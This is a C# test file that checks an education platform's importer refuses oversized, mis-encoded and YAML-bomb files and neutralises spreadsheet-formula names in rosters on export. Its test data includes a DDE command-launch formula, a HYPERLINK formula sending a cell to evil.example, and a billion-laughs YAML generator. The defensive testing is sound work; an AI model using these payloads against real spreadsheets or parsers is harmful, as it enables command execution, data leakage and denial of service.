using System.Text;
using Academy.Learning.Import;
using Academy.Learning.Localization;
using Academy.Learning.Storage;
using Academy.Tests.Dashboard;
using Academy.Tests.Storage;
using Academy.Tests.Support;
using Microsoft.Extensions.DependencyInjection;
using Academy.Learning.Content;

namespace Academy.Tests.Faults;

/// <summary>
/// Import files an operator might be handed: far too big, in the wrong encoding, YAML built to blow
/// up a parser, and rosters whose names are spreadsheet formulas. Each is refused with a message that
/// names the file (and line) and leaves the store exactly as it was; formula names that are imported
/// come out inert in every export.
/// </summary>
public sealed class HostileContentTests : StoreTestBase
{
    private static readonly Localizer En = Catalog.Default.For("en");
    private static readonly string[] Tables = ["courses", "lessons", "questions", "cohorts", "study_groups", "learners", "enrollments", "audit_log"];

    protected override Task<ITestStore> CreateStoreAsync() => Task.FromResult<ITestStore>(new SqliteTestStore());

    public override async Task InitializeAsync()
    {
        await base.InitializeAsync();
        Assert.Empty((await Importer.ImportAsync(Samples.All)).Errors);
    }

    [Fact]
    public async Task A_huge_file_is_refused_by_its_size_before_it_is_read()
    {
        var before = await CountsAsync();
        var folder = Directory.CreateTempSubdirectory("academy-huge-");
        try
        {
            // 50 MB of well-formed roster rows: the limit, not a parse error, must stop it.
            var csv = Path.Combine(folder.FullName, "roster-huge.csv");
            var yaml = Path.Combine(folder.FullName, "pack-huge.yaml");
            await WriteLargeAsync(csv, "cohort,group,name,phone\n", i => $"sample-2026,HN-01,Learner {i},+8491{i % 10_000_000:D7}\n");
            await WriteLargeAsync(yaml, "course:\n  code: huge\n  title: Huge\n  topics:\n", i => $"    - code: t{i}\n      title: Topic {i}\n");

            var allocated = GC.GetTotalAllocatedBytes(precise: true);
            var report = await Importer.ImportFilesAsync([csv, yaml]);
            allocated = GC.GetTotalAllocatedBytes(precise: true) - allocated;

            Assert.Equal(
                [
                    $"{csv}: the file is 50.0 MB; an import file may be at most 20 MB (split a roster into several files)",
                    $"{yaml}: the file is 50.0 MB; an import file may be at most 20 MB (split a roster into several files)",
                    "2 errors found; nothing was imported.",
                ],
                report.Render(En).ToList());
            Assert.True(allocated < 8_000_000, $"refusing two 50 MB files allocated {allocated:N0} bytes: they were read");
        }
        finally
        {
            folder.Delete(recursive: true);
        }
        Assert.Equal(before, await CountsAsync());

        // Content handed over as bytes (not from disk) is held to the same limit.
        var inMemory = await Importer.ImportAsync([("big.csv", new byte[20 * 1024 * 1024 + 1])]);
        Assert.Equal("import.error.too_large", Assert.Single(inMemory.Errors).MessageKey);
    }

    [Fact]
    public async Task Files_in_other_encodings_are_refused_with_the_line_and_what_to_do()
    {
        Encoding.RegisterProvider(CodePagesEncodingProvider.Instance);
        var before = await CountsAsync();
        const string Roster = "cohort,group,name,phone\nsample-2026,HN-01,Nguyễn Văn Bình,+84911000001\nsample-2026,SH-01,王小明,+8613900000001\n";
        var report = await Importer.ImportAsync(
        [
            ("utf16le.csv", Encoding.Unicode.GetBytes(Roster)),                 // no BOM: every other byte is NUL
            ("utf16be.csv", Encoding.BigEndianUnicode.GetBytes(Roster)),
            ("gb18030.csv", Encoding.GetEncoding("GB18030").GetBytes("cohort,group,name,phone\nsample-2026,SH-01,王小明,+8613900000001\n")),
            // Windows-1258 writes Vietnamese as a base letter plus a tone mark (â + grave), as Vietnamese Windows saves it.
            ("cp1258.csv", Encoding.GetEncoding(1258).GetBytes("cohort,group,name,phone\nsample-2026,HN-01,Trâ\u0300n Thi\u0323 Thu,+84911000002\n")),
            ("latin1.yaml", Encoding.Latin1.GetBytes("course:\n  code: x\n  title: Sécurité numérique\n")),
        ]);
        Assert.Equal(
            [
                "utf16le.csv:1: the file is saved as UTF-16; save it as UTF-8",
                "utf16be.csv:1: the file is saved as UTF-16; save it as UTF-8",
                "gb18030.csv:2: this line is not valid UTF-8 (was the file saved as GBK, Big5 or Windows-1258?); save the file as UTF-8",
                "cp1258.csv:2: this line is not valid UTF-8 (was the file saved as GBK, Big5 or Windows-1258?); save the file as UTF-8",
                "latin1.yaml:3: this line is not valid UTF-8 (was the file saved as GBK, Big5 or Windows-1258?); save the file as UTF-8",
                "5 errors found; nothing was imported.",
            ],
            report.Render(En).ToList());
        Assert.Equal(before, await CountsAsync());
    }

    [Fact]
    public async Task A_file_with_a_stray_nul_byte_is_refused_at_its_line()
    {
        var before = await CountsAsync();
        var report = await Importer.ImportAsync([Samples.Text("nul.csv", "cohort,group,name,phone\nsample-2026,HN-01,Bình\0,+84911000003\n")]);
        Assert.Equal("nul.csv:2: the line holds a NUL character, which no text file has; save the file as UTF-8 text",
            Assert.Single(report.Errors).Render(En));
        Assert.Equal(before, await CountsAsync());
    }

    [Fact]
    public async Task Yaml_bombs_deep_nesting_and_duplicate_keys_are_refused_quickly()
    {
        var before = await CountsAsync();
        // "Billion laughs": nine levels of nine aliases each would expand to 9^9 strings.
        var bomb = new StringBuilder("course:\n  code: bomb\n  title: Bomb\n  l0: &l0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n");
        for (int level = 1; level <= 9; level++)
            bomb.Append(CultureInfo($"  l{level}: &l{level} [{string.Join(", ", Enumerable.Repeat($"*l{level - 1}", 9))}]\n"));
        bomb.Append("  topics: *l9\n");
        var deep = "course:\n  code: deep\n  title: " + new string('[', 100_000) + new string(']', 100_000) + "\n";
        var deepBlock = new StringBuilder("course:\n  code: deepblock\n");
        for (int i = 0; i < 5_000; i++) deepBlock.Append(' ', 2 + i).Append("k:\n");
        const string Duplicate = "course:\n  code: dup\n  title: One\n  title: Two\n";

        var clock = System.Diagnostics.Stopwatch.StartNew();
        var report = await Importer.ImportAsync(
        [
            Samples.Text("bomb.yaml", bomb.ToString()), Samples.Text("deep.yaml", deep),
            Samples.Text("deep-block.yaml", deepBlock.ToString()), Samples.Text("dup.yaml", Duplicate),
        ]);
        Assert.True(clock.Elapsed < TimeSpan.FromSeconds(10), $"took {clock.Elapsed}");
        var lines = report.Render(En).ToList();
        Assert.Contains("bomb.yaml:5: aliases (*name) are not allowed in import files; write the values out", lines);
        Assert.Contains("deep.yaml:3: the YAML is nested more than 64 levels deep", lines);
        Assert.Contains("deep-block.yaml:66: the YAML is nested more than 64 levels deep", lines);
        Assert.Contains(lines, l => l.StartsWith("dup.yaml:4: YAML syntax error: ", StringComparison.Ordinal) && l.Contains("title", StringComparison.Ordinal));
        Assert.Equal("4 errors found; nothing was imported.", lines[^1]);
        Assert.Equal(before, await CountsAsync());
    }

    [Fact]
    public async Task Formula_names_in_a_roster_are_imported_as_names_and_exported_inert()
    {
        string[] attacks = ["=cmd|' /C calc'!A0", "+SUM(1+1)", "-2+3", "@SUM(A1)", "=HYPERLINK(\"http://evil.example/\"&A1)"];
        var roster = new StringBuilder("cohort,group,name,phone,role\n");
        for (int i = 0; i < attacks.Length; i++)
            roster.Append(CultureInfo($"sample-2026,HN-01,\"{attacks[i].Replace("\"", "\"\"", StringComparison.Ordinal)}\",+8491700000{i},learner\n"));
        roster.Append("sample-2026,HN-01,\"\t=1+1\",+84917000009,learner\n");

        await using var app = new AcademyApp();
        var importer = app.Services.GetRequiredService<ContentImporter>();
        var imported = await importer.ImportAsync([Samples.Text("hostile-roster.csv", roster.ToString())]);
        Assert.Empty(imported.Errors);
        var names = await app.QueryAsync<string>("SELECT name FROM learners WHERE phone LIKE '+849170000%' ORDER BY phone");
        Assert.Equal(attacks.Length + 1, names.Count);

        var admin = await DashboardSupport.RegisterAsync(app, DashboardSupport.Admin);
        using var http = DashboardSupport.RawClient(app);
        var cookie = await DashboardSupport.SignInAsync(http, await DashboardSupport.LinkAsync(app, admin));
        var hanoi = await app.ScalarAsync<long>("SELECT id FROM study_groups WHERE code = 'HN-01'");

        var csv = SpreadsheetReader.ReadCsv(await (await DashboardSupport.GetAsync(http, $"/dashboard/exports/group/{hanoi}/csv", cookie)).Content.ReadAsByteArrayAsync());
        var xlsx = SpreadsheetReader.ReadXlsx(await (await DashboardSupport.GetAsync(http, $"/dashboard/exports/group/{hanoi}/xlsx", cookie)).Content.ReadAsByteArrayAsync());
        foreach (var name in names)
        {
            Assert.Contains(csv, row => row[0] == "'" + name);
            // In xlsx the name is a string cell, shown as typed: a string is never evaluated, so no apostrophe.
            Assert.Contains(xlsx.Rows, row => row[0].Value == name && row[0].Type == "InlineString");
        }
        // Not one cell of the CSV starts with a character a spreadsheet would evaluate; not one xlsx cell is a formula.
        Assert.All(csv.SelectMany(r => r), cell => Assert.False(cell.Length > 0 && "=+@\t\r".Contains(cell[0], StringComparison.Ordinal), cell));
        Assert.All(xlsx.Rows.SelectMany(r => r), cell => Assert.False(cell.Formula, cell.Value));
    }

    private static string CultureInfo(FormattableString text) => FormattableString.Invariant(text);

    private static async Task WriteLargeAsync(string path, string header, Func<int, string> line)
    {
        await using var writer = new StreamWriter(path, false, new UTF8Encoding(false));
        await writer.WriteAsync(header);
        long written = header.Length;
        for (int i = 0; written < 50L * 1024 * 1024; i++)
        {
            var text = line(i);
            await writer.WriteAsync(text);
            written += Encoding.UTF8.GetByteCount(text);
        }
        await writer.FlushAsync();
        writer.BaseStream.SetLength(50L * 1024 * 1024);
    }

    private async Task<string> CountsAsync()
    {
        await using var s = await Db.BeginReadAsync();
        var counts = new List<string>();
        foreach (var table in Tables) counts.Add($"{table}={await s.ExecuteScalarAsync<long>($"SELECT COUNT(*) FROM {table}")}");
        return string.Join(", ", counts);
    }
}
